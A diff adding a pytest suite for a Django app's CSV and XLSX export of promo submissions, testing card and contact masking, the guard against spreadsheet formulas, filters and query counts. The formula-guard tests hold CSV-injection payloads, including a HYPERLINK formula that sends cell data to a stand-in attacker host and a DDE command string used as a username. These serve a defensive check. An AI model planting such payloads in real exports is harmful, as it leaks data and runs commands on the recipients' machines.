@@ -1,0 +1,397 @@
+"""What an export file holds: columns, masking, the formula guard, filters, CSV and XLSX alike, and the cost."""
+
+import csv
+import io
+import re
+import uuid
+from datetime import UTC, date, datetime
+from datetime import time as dtime
+from decimal import Decimal
+
+import pytest
+from django.contrib.auth.models import User
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+from django.utils import translation
+from openpyxl import load_workbook
+
+from promo.models import Submission
+from promo.reasons import reason
+from promo.transitions import codes_column
+from reports import exports
+from reports.exports import ExportFilters
+from tests.factories import CampaignFactory, ParticipantFactory, RecognitionFactory, SubmissionFactory
+
+Status = Submission.Status
+pytestmark = pytest.mark.django_db
+
+# A full card number, as OCR or a moderator might leave it in free text: no 5 of its digits in a row may leave.
+PAN = "4276380012345678"
+
+
+@pytest.fixture(autouse=True)
+def _english():
+    with translation.override("en"):
+        yield
+
+
+@pytest.fixture
+def campaign(db):
+    # UTC+5 all year: a day there starts at 19:00 UTC the day before.
+    return CampaignFactory(
+        slug="autumn", name="Autumn", timezone="Asia/Yekaterinburg", starts_on=date(2026, 10, 1)
+    )
+
+
+def submit(
+    campaign,
+    *,
+    sent: datetime,
+    status: str = Status.ACCEPTED,
+    reasons: list | None = None,
+    participant=None,
+    merchant: str = "MAGNIT",
+    decided_by=None,
+    typed_amount: str = "1234.50",
+    read_amount: str | None = "1234.50",
+    **kwargs,
+) -> Submission:
+    """A decided submission with its reading, sent at `sent` (UTC), with a fixed-digit-free id."""
+    reasons = [reason("slip_matches")] if reasons is None else reasons
+    kwargs.setdefault("decided_at", sent.replace(second=45))
+    submission = SubmissionFactory(
+        # Ids of letters only: a random UUID can hold five digits in a row, which the card check looks for.
+        id=uuid.UUID("abcdefab-cdef-4bcd-abcd-" + f"{uuid.uuid4().int % 16**12:012x}".translate(_LETTERS)),
+        campaign=campaign,
+        participant=participant or ParticipantFactory(),
+        photo="",
+        status=status,
+        reasons=reasons,
+        reason_codes=codes_column(reasons),
+        decided_by=decided_by,
+        typed_amount=Decimal(typed_amount),
+        **kwargs,
+    )
+    Submission.objects.filter(pk=submission.pk).update(created_at=sent)
+    RecognitionFactory(
+        submission=submission,
+        campaign=campaign,
+        amount=None if read_amount is None else Decimal(read_amount),
+        date=date(2026, 10, 5),
+        time=dtime(14, 3, 27),
+        payment_system="VISA",
+        merchant=merchant,
+    )
+    submission.refresh_from_db()
+    return submission
+
+
+_LETTERS = str.maketrans("0123456789", "abcdefabcd")
+
+
+def csv_bytes(filters: ExportFilters) -> bytes:
+    return b"".join(exports.csv_chunks(filters, language="en"))
+
+
+def csv_rows(data: bytes) -> list[list[str]]:
+    text = data.decode("utf-8")
+    assert text.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
+
+
+def xlsx_rows(filters: ExportFilters) -> list[list[str]]:
+    """The XLSX's rows as CSV text (the same formatting), every sheet after the other, headers included."""
+    out = io.BytesIO()
+    exports.export_write(filters=filters, fmt="xlsx", out=out, language="en")
+    out.seek(0)
+    workbook = load_workbook(out, read_only=True)
+    names = [key for key, _ in exports.COLUMNS]
+    rows = []
+    for sheet in workbook.worksheets:
+        for values in sheet.iter_rows(values_only=True):
+            rows.append([_xlsx_text(name, value) for name, value in zip(names, values, strict=True)])
+    return rows
+
+
+def _xlsx_text(name: str, value) -> str:
+    """A cell as read back, in the CSV's text: amounts are numbers there, a date reads back as a datetime."""
+    if isinstance(value, float | int):
+        return exports.csv_text(Decimal(str(value)))
+    if name == "slip_date" and isinstance(value, datetime):
+        return exports.csv_text(value.date())
+    return exports.csv_text(value)
+
+
+def column(name: str) -> int:
+    return [key for key, _ in exports.COLUMNS].index(name)
+
+
+def test_csv_starts_with_a_bom_and_a_semicolon_separated_header_in_the_readers_language(campaign):
+    submit(campaign, sent=datetime(2026, 10, 5, 9, 0, tzinfo=UTC))
+    data = csv_bytes(ExportFilters(campaign=campaign))
+    assert data.startswith(b"\xef\xbb\xbf")
+    assert data.split(b"\r\n")[0].decode("utf-8-sig").split(";") == [
+        "submission id", "sent at", "status", "reason codes", "reasons", "decided at", "decided by",
+        "typed amount", "read amount", "slip date", "slip time", "payment system", "merchant",
+        "card last 4 (typed)", "card last 4 (read)", "contact (masked)", "participant",
+    ]  # fmt: skip
+    assert data.count(b"\r\n") == 2  # header and one row, each ended by CRLF
+    russian = b"".join(exports.csv_chunks(ExportFilters(campaign=campaign), language="ru"))
+    assert russian.decode("utf-8-sig").split("\r\n")[0].split(";")[2] == "статус"
+
+
+def test_a_row_says_what_was_sent_read_and_decided_in_the_campaigns_time(campaign):
+    moderator = User.objects.create_user("olga", is_staff=True)
+    person = ParticipantFactory(contact="+79991234567")
+    accepted = submit(
+        campaign, sent=datetime(2026, 10, 5, 20, 30, 12, 654321, tzinfo=UTC), participant=person
+    )
+    rejected = submit(
+        campaign,
+        sent=datetime(2026, 10, 6, 8, 0, tzinfo=UTC),
+        status=Status.REJECTED,
+        reasons=[reason("moderator_rejected", note="blurred"), reason("low_confidence", field="amount")],
+        decided_by=moderator,
+        typed_amount="99.00",
+        read_amount=None,
+        participant=person,
+    )
+    _header, first, second = csv_rows(csv_bytes(ExportFilters(campaign=campaign)))
+    assert first == [
+        str(accepted.pk),
+        "2026-10-06 01:30:12",  # 20:30 UTC is past midnight in Yekaterinburg
+        "accepted",
+        "slip_matches",
+        "The slip matches what you typed and was printed during the campaign.",
+        "2026-10-06 01:30:45",
+        "automatic",
+        "1234.50",
+        "1234.50",
+        "2026-10-05",
+        "14:03",
+        "VISA",
+        "MAGNIT",
+        "4821",
+        "4821",
+        "'+7******4567",  # guarded: a cell starting with + is a formula to a spreadsheet
+        exports.pseudonym(person.pk),
+    ]
+    assert second[0] == str(rejected.pk)
+    assert second[column("status")] == "rejected"
+    assert second[column("reason_codes")] == "moderator_rejected, low_confidence"
+    assert second[column("reasons")] == (
+        "A moderator checked the slip and rejected it: blurred | "
+        "We are not sure we read the amount correctly; a moderator will check it."
+    )
+    assert second[column("decided_by")] == "olga"
+    assert (second[column("typed_amount")], second[column("read_amount")]) == ("99.00", "")
+    assert second[column("participant")] == first[column("participant")]  # one person, one pseudonym
+
+
+def test_a_person_whose_account_is_gone_is_not_called_automatic(campaign):
+    submit(
+        campaign,
+        sent=datetime(2026, 10, 5, 9, 0, tzinfo=UTC),
+        reasons=[reason("moderator_accepted")],
+    )
+    submit(campaign, sent=datetime(2026, 10, 5, 10, 0, tzinfo=UTC), status=Status.RECEIVED, decided_at=None)
+    rows = csv_rows(csv_bytes(ExportFilters(campaign=campaign)))[1:]
+    assert [row[column("decided_by")] for row in rows] == ["a moderator", ""]
+
+
+def test_no_card_number_leaves_in_either_format(campaign):
+    submit(
+        campaign,
+        sent=datetime(2026, 10, 5, 9, 0, tzinfo=UTC),
+        status=Status.REJECTED,
+        merchant=f"SHOP {PAN[:4]} {PAN[4:8]} {PAN[8:12]} {PAN[12:]}",
+        reasons=[reason("moderator_rejected", note=f"someone else's card {PAN}")],
+        typed_amount="987654.32",  # six digits in a row, none of the card's
+    )
+    submit(campaign, sent=datetime(2026, 10, 5, 10, 0, tzinfo=UTC), merchant=f"card:{PAN}")
+    filters = ExportFilters(campaign=campaign)
+    data = csv_bytes(filters)
+    digits_only = re.sub(rb"\D", b"", data)  # whatever separates the digits
+    windows = {PAN[i : i + 5] for i in range(len(PAN) - 4)}
+    assert not any(window.encode() in data for window in windows)
+    assert PAN[:8].encode() not in digits_only  # not even spread over separators
+    for rows in (csv_rows(data), xlsx_rows(filters)):
+        for row in rows[1:]:
+            for name, cell in zip((key for key, _ in exports.COLUMNS), row, strict=True):
+                if name not in ("id", "typed_amount", "read_amount"):
+                    assert not re.search(r"\d{5,}", cell), (name, cell)
+            assert re.fullmatch(r"\d{4}", row[column("typed_card_last4")])
+            assert re.fullmatch(r"\d{4}", row[column("read_card_last4")])
+    assert "1234" not in csv_rows(data)[1][column("merchant")].replace("5678", "")
+    assert csv_rows(data)[1][column("merchant")].endswith("5678")  # the last 4 stay, as on the slip
+
+
+@pytest.mark.parametrize(
+    ("contact", "masked"),
+    [
+        ("+79991234567", "+7******4567"),
+        ("+442071234567", "+4*******4567"),
+        ("alice@example.com", "a***@example.com"),
+        ("a@example.com", "a***@example.com"),
+        ("erased-42", "(erased)"),
+        ("", "(erased)"),
+    ],
+)
+def test_contacts_are_masked(contact, masked):
+    assert exports.mask_contact(contact) == masked
+
+
+def test_no_contact_leaves_whole(campaign):
+    people = [
+        ParticipantFactory(contact="+79997654321"),
+        ParticipantFactory(contact="maria.petrova@example.com", contact_kind="email"),
+        ParticipantFactory(contact="erased-77"),
+    ]
+    for i, person in enumerate(people):
+        submit(campaign, sent=datetime(2026, 10, 5, 9, i, tzinfo=UTC), participant=person)
+    data = csv_bytes(ExportFilters(campaign=campaign)).decode("utf-8-sig")
+    for whole in ("79997654321", "9997654321", "maria.petrova", "erased-77"):
+        assert whole not in data
+    contacts = [row[column("contact")] for row in csv_rows(data.encode("utf-8-sig"))[1:]]
+    assert contacts == ["'+7******4321", "m***@example.com", "(erased)"]
+
+
+def test_pseudonyms_are_stable_distinct_and_never_numbers():
+    first, again, other = exports.pseudonym(1), exports.pseudonym(1), exports.pseudonym(2)
+    assert first == again != other
+    assert re.fullmatch(r"P-[a-z]{12}", first)
+
+
+@pytest.mark.parametrize(
+    ("text", "guarded"),
+    [
+        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("MAGNIT = good", "MAGNIT = good"),
+        ("", ""),
+    ],
+)
+def test_the_formula_guard(text, guarded):
+    assert exports.guard(text) == guarded
+
+
+def test_formulas_from_ocr_and_usernames_arrive_as_text_in_both_formats(campaign):
+    evil = User.objects.create_user("=cmd|' /C calc'!A0", is_staff=True)
+    submit(
+        campaign,
+        sent=datetime(2026, 10, 5, 9, 0, tzinfo=UTC),
+        merchant='=HYPERLINK("http://evil.example/?"&A1)',
+        decided_by=evil,
+    )
+    submit(campaign, sent=datetime(2026, 10, 5, 9, 1, tzinfo=UTC), merchant="@SUM(1+1)\x07")
+    filters = ExportFilters(campaign=campaign)
+    for rows in (csv_rows(csv_bytes(filters)), xlsx_rows(filters)):
+        first, second = rows[1:]
+        assert first[column("merchant")] == '\'=HYPERLINK("http://evil.example/?"&A1)'
+        assert first[column("decided_by")] == "'=cmd|' /C calc'!A0"
+        assert second[column("merchant")] == "'@SUM(1+1)"  # and no control character (XML cannot hold it)
+    out = io.BytesIO()
+    exports.export_write(filters=filters, fmt="xlsx", out=out, language="en")
+    out.seek(0)
+    sheet = load_workbook(out).active
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)  # no formula at all
+
+
+def test_filters_by_period_in_the_campaigns_days_status_and_reason(campaign):
+    before = submit(campaign, sent=datetime(2026, 10, 4, 18, 59, tzinfo=UTC))  # Oct 4, 23:59 local
+    first = submit(campaign, sent=datetime(2026, 10, 4, 19, 0, tzinfo=UTC))  # Oct 5, 00:00 local
+    rejected = submit(
+        campaign,
+        sent=datetime(2026, 10, 6, 12, 0, tzinfo=UTC),
+        status=Status.REJECTED,
+        reasons=[reason("amount_mismatch", read="1.00", typed="2.00"), reason("card_unread")],
+    )
+    last = submit(campaign, sent=datetime(2026, 10, 7, 18, 59, tzinfo=UTC))  # Oct 7, 23:59 local
+    after = submit(campaign, sent=datetime(2026, 10, 7, 19, 0, tzinfo=UTC))  # Oct 8 local
+    submit(CampaignFactory(slug="other"), sent=datetime(2026, 10, 6, 12, 0, tzinfo=UTC))
+
+    def ids(**filters) -> list[str]:
+        return [row[0] for row in exports.export_rows(ExportFilters(campaign=campaign, **filters))]
+
+    assert ids() == [str(s.pk) for s in (before, first, rejected, last, after)]
+    period = {"date_from": date(2026, 10, 5), "date_to": date(2026, 10, 7)}
+    assert ids(**period) == [str(s.pk) for s in (first, rejected, last)]
+    assert ids(date_from=date(2026, 10, 8)) == [str(after.pk)]
+    assert ids(status=Status.REJECTED) == [str(rejected.pk)]
+    assert ids(reason="card_unread") == [str(rejected.pk)]
+    assert ids(reason="card") == []  # a code, not a fragment of one
+    assert ids(status=Status.ACCEPTED, **period) == [str(first.pk), str(last.pk)]
+    assert exports.export_count(ExportFilters(campaign=campaign, **period)) == 3
+
+
+def test_filters_survive_the_jobs_json(campaign):
+    filters = ExportFilters(
+        campaign=campaign, date_from=date(2026, 10, 5), date_to=None, status="rejected", reason="refund"
+    )
+    assert ExportFilters.from_json(campaign, filters.as_json()) == filters
+    assert ExportFilters.from_json(campaign, {}) == ExportFilters(campaign=campaign)
+
+
+def test_xlsx_holds_the_same_rows_as_the_csv(campaign):
+    for i in range(3):
+        submit(
+            campaign,
+            sent=datetime(2026, 10, 5, 9, i, 7, tzinfo=UTC),
+            status=Status.REJECTED if i else Status.ACCEPTED,
+            reasons=[reason("amount_mismatch", read="10.00", typed="12.00")] if i else None,
+            typed_amount=f"{1000 + i}.0{i}",
+            read_amount=None if i == 2 else "1000.00",
+        )
+    filters = ExportFilters(campaign=campaign)
+    assert xlsx_rows(filters) == csv_rows(csv_bytes(filters))
+
+
+def test_xlsx_opens_a_new_sheet_with_its_header_when_one_is_full(campaign, monkeypatch):
+    monkeypatch.setattr(exports, "XLSX_SHEET_ROWS", 2)
+    for i in range(5):
+        submit(campaign, sent=datetime(2026, 10, 5, 9, i, tzinfo=UTC))
+    out = io.BytesIO()
+    assert (
+        exports.export_write(filters=ExportFilters(campaign=campaign), fmt="xlsx", out=out, language="en")
+        == 5
+    )
+    out.seek(0)
+    workbook = load_workbook(out, read_only=True)
+    assert workbook.sheetnames == ["Submissions", "Submissions 2", "Submissions 3"]
+    sizes = [len(list(sheet.iter_rows(values_only=True))) for sheet in workbook.worksheets]
+    assert sizes == [3, 3, 2]  # each with its header
+
+
+def test_an_empty_export_still_has_its_header(campaign):
+    filters = ExportFilters(campaign=campaign)
+    assert csv_rows(csv_bytes(filters)) == [exports.header()]
+    assert xlsx_rows(filters) == [exports.header()]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_queries_do_not_grow_with_the_rows(campaign, monkeypatch, fmt):
+    monkeypatch.setattr(exports, "CHUNK_SIZE", 4)  # several fetches from the cursor
+    moderator = User.objects.create_user("olga", is_staff=True)
+
+    def queries_for_an_export() -> int:
+        with CaptureQueriesContext(connection) as queries:
+            exports.export_write(filters=ExportFilters(campaign=campaign), fmt=fmt, out=io.BytesIO())
+        return len(queries)
+
+    submit(campaign, sent=datetime(2026, 10, 5, 9, 0, tzinfo=UTC), decided_by=moderator)
+    one = queries_for_an_export()
+    for i in range(1, 20):
+        submit(campaign, sent=datetime(2026, 10, 5, 9, i, tzinfo=UTC), decided_by=moderator)
+    assert queries_for_an_export() == one == 1
+
+
+def test_the_query_selects_only_the_exported_columns(campaign):
+    with CaptureQueriesContext(connection) as queries:
+        list(exports.export_rows(ExportFilters(campaign=campaign)))
+    sql = queries[0]["sql"].lower()
+    for unneeded in ("photo_sha256", "full_text", "lines", "checks", "claim_token", "phash"):
+        assert unneeded not in sql
